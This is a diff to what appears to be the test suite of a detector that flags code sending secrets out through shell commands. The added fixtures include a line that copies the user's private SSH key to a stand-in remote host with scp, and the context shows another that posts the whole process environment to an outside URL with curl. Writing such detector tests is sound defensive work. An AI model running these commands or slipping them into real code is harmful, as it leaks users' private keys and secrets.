@@ -7,6 +7,11 @@ const hook = (command: string): { 'package.json': object } => ({ 'package.json':
 examine(sendsWithACommand, {
   speaks: [
     {
+      when: 'a key is copied to another machine',
+      files: { 'index.js': `require('child_process').exec('scp ~/.ssh/id_rsa u@a.example.invalid:')` },
+      weight: 'proof',
+    },
+    {
       when: 'the environment is an argument of what sends it',
       files: run(
         `const seen = { ...process.env }; const pick = () => seen; require('child_process').spawn('curl', ['-d', JSON.stringify(pick()), 'https://files.invalid/a'])`,
@@ -62,6 +67,12 @@ examine(sendsWithACommand, {
     },
   ],
   silent: [
+    {
+      when: 'a key opens the way to another machine, to which something else is copied',
+      files: {
+        'index.js': `require('child_process').exec('scp -i ~/.ssh/id_rsa dist.tgz u@a.example.invalid:'); require('child_process').exec('rsync -e "ssh -i ~/.ssh/id_rsa" dist/ u@a.example.invalid:/srv')`,
+      },
+    },
     {
       when: 'pages that were built are pushed, with the token of the user at hand',
       files: {
